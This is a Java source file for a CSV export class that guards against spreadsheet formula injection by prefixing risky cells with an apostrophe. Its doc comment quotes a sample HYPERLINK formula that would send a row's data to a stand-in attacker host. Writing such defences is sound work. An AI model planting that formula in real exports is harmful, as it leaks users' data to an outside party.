package org.learningcommunities.lifecycle.system;

import java.io.Closeable;
import java.io.Flushable;
import java.io.IOException;
import java.io.Writer;
import java.util.Arrays;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVPrinter;
import org.apache.commons.csv.QuoteMode;

/**
 * Every CSV the application exports: RFC 4180 written by Commons CSV, with each text cell
 * made safe for spreadsheet programs (OWASP, "CSV Injection"). A text that begins with
 * {@code = + - @}, a tab or a carriage return would be run as a formula by Excel,
 * LibreOffice or Google Sheets (a meeting topic
 * {@code =HYPERLINK("http://evil.example/?x="&A2,"Click me")} becomes a link that sends
 * the row away); such a cell is written with a leading apostrophe, which the spreadsheet
 * shows as text. Every text cell is quoted; numbers are not text: they stay bare numbers,
 * a negative one included.
 */
public final class SafeCsv implements Flushable, Closeable {

	private final CSVPrinter printer;

	/** A CSV on {@code out} whose first line is the header. */
	public SafeCsv(Writer out, String... header) throws IOException {
		this.printer = new CSVPrinter(out, CSVFormat.RFC4180.builder()
			// every text in quotes, numbers bare: a spreadsheet reads a number as a
			// number
			// and a quoted text as text
			.setQuoteMode(QuoteMode.NON_NUMERIC)
			.setHeader(Arrays.stream(header).map(SafeCsv::cell).toArray(String[]::new))
			.get());
	}

	/** One line: numbers as numbers, everything else as safe text, {@code null} empty. */
	public void printRecord(Object... values) throws IOException {
		Object[] cells = new Object[values.length];
		for (int i = 0; i < values.length; i++) {
			Object value = values[i];
			cells[i] = (value == null || value instanceof Number) ? value : cell(value.toString());
		}
		this.printer.printRecord(cells);
	}

	/** A text as a cell that no spreadsheet runs as a formula. */
	public static String cell(String text) {
		if (text == null || text.isEmpty()) {
			return text;
		}
		char first = text.charAt(0);
		return (first == '=' || first == '+' || first == '-' || first == '@' || first == '\t' || first == '\r')
				? "'" + text : text;
	}

	@Override
	public void flush() throws IOException {
		this.printer.flush();
	}

	@Override
	public void close() throws IOException {
		this.printer.close();
	}

}
